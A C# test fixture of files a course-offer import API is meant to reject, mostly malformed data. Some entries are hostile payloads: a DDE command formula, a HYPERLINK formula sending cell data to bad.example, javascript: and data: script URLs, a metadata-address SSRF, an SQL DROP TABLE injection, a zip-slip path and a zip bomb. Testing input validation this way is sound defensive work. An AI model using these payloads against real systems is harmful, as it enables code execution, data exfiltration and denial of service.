using System.IO.Compression;
using System.Text;

namespace CpdGraph.Api.Tests.Imports;

/// <summary>Files of offers that are broken, or meant to break something, by name. Each is refused with a message, and writes nothing.</summary>
internal static class BadFiles
{
    private const string Header = "Title,Format,Summary,Booking URL,Price\n";

    /// <summary>All of them.</summary>
    public static IReadOnlyDictionary<string, byte[]> All { get; } = new Dictionary<string, byte[]>
    {
        ["nothing"] = [],
        ["a mark and nothing else"] = [0xEF, 0xBB, 0xBF],
        ["blanks"] = Utf8("  \n \n"),
        ["no header that is known"] = Utf8("a,b,c\n1,2,3\n"),
        ["no title"] = Utf8("Format,Summary\nCourse,Fine\n"),
        ["the title twice"] = Utf8("Title,Title,Format\nOne,Two,Course\n"),
        ["a quote that never ends"] = Utf8(Header + "\"Never ends,Course,,,\n"),
        ["a quote in the middle"] = Utf8(Header + "In the \"middle,Course,,,\n"),
        ["more cells than headers"] = Utf8(Header + "Too,Course,many,,,cells,here\n"),
        ["little-endian UTF-16"] = [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Header + "Wide,Course,,,\n")],
        ["big-endian UTF-16"] = [.. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(Header + "Wide,Course,,,\n")],
        ["UTF-16 without its mark"] = Encoding.Unicode.GetBytes(Header + "Wide,Course,,,\n"),
        ["bytes of no encoding"] = [.. Utf8(Header), 0x41, 0x90, 0x81, .. Utf8(",Course,,,\n")],
        ["zeros"] = new byte[4_096],
        ["a picture"] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52],
        ["a program"] = [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00],
        ["an older workbook"] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0, 0, 0],
        ["a PDF"] = Utf8("%PDF-1.7\n%\u00E2\u00E3\n1 0 obj\n"),
        ["a web page"] = Utf8("<!doctype html><html><body><table><tr><td>Title</td></tr></table></body></html>"),
        ["JSON"] = Utf8("[{\"title\":\"One\"}]"),
        ["a formula"] = Row("=1+1"),
        ["a command"] = Row("=cmd|' /C calc'!A0"),
        ["a link that calls"] = Row("\"=HYPERLINK(\"\"https://bad.example?x=\"\"&A1,\"\"Open\"\")\""),
        ["a formula with plus"] = Row("+SUM(A1:A9)"),
        ["a formula with minus"] = Row("-2+3"),
        ["a formula with at"] = Row("@SUM(A1)"),
        ["a full-width formula"] = Row("＝1+1"),
        ["a full-width at"] = Row("＠SUM(A1)"),
        ["a cell of 30,000 characters"] = Row(new string('x', 30_000)),
        ["a title of a megabyte"] = Row(new string('y', 1_000_000)),
        ["letters that turn the text around"] = Row("safe\u202Efdp.exe"),
        ["a control character"] = Row("bell\u001Bsound"),
        ["nothing that can be seen"] = Row("\u200B\u2800"),
        ["a patient's number"] = Utf8(Header + "Fine,Course,Seen 943 476 5919,,\n"),
        ["an address that runs"] = Utf8(Header + "Fine,Course,,javascript:alert(1),\n"),
        ["an address of data"] = Utf8(Header + "Fine,Course,,\"data:text/html,<script>1</script>\",\n"),
        ["an address of a private network"] = Utf8(Header + "Fine,Course,,https://169.254.169.254/latest,\n"),
        ["an address with a password"] = Utf8(Header + "Fine,Course,,https://a:b@example.org/,\n"),
        ["a price with parts of a penny"] = Utf8(Header + "Fine,Course,,,£1.005\n"),
        ["a price below nothing"] = Utf8(Header + "Fine,Course,,,£-5\n"),
        ["a price beyond all numbers"] = Utf8(Header + $"Fine,Course,,,{new string('9', 400)}\n"),
        ["a format that there is not"] = Utf8(Header + "Fine,'; DROP TABLE offer; --,,,\n"),
        ["no zip at all"] = [0x50, 0x4B, 0x03, 0x04, .. "nothing"u8],
        ["an empty archive"] = Archive(_ => { }),
        ["another archive"] = Archive(archive => Put(archive, "word/document.xml", "<document/>")),
        ["an archive that climbs"] = Archive(archive => Put(archive, "../../etc/passwd", "root")),
        ["a workbook cut short"] = WorkbookFileTests.Of(["Title", "Format"], ["One", "Course"])[..^200],
        ["one part that unpacks to 300 MB"] = Archive(archive =>
        {
            using var stream = archive.CreateEntry("xl/worksheets/sheet1.xml", CompressionLevel.Optimal).Open();
            var zeros = new byte[1_000_000];

            for (var megabyte = 0; megabyte < 300; megabyte++)
            {
                stream.Write(zeros);
            }
        }),
        ["two thousand parts"] = Archive(archive =>
        {
            for (var part = 0; part < 2_000; part++)
            {
                Put(archive, $"xl/{part}.xml", "<a/>");
            }
        }),
        ["a workbook with a formula in a cell"] = WorkbookFileTests.Of(["Title", "Format"], ["=1+1", "Course"]),
    };

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Row(string title) => Utf8($"{Header}{title},Course,Fine.,,\n");

    private static byte[] Archive(Action<ZipArchive> fill)
    {
        var stream = new MemoryStream();

        using (var archive = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            fill(archive);
        }

        return stream.ToArray();
    }

    private static void Put(ZipArchive archive, string name, string text)
    {
        using var writer = new StreamWriter(archive.CreateEntry(name).Open());
        writer.Write(text);
    }
}
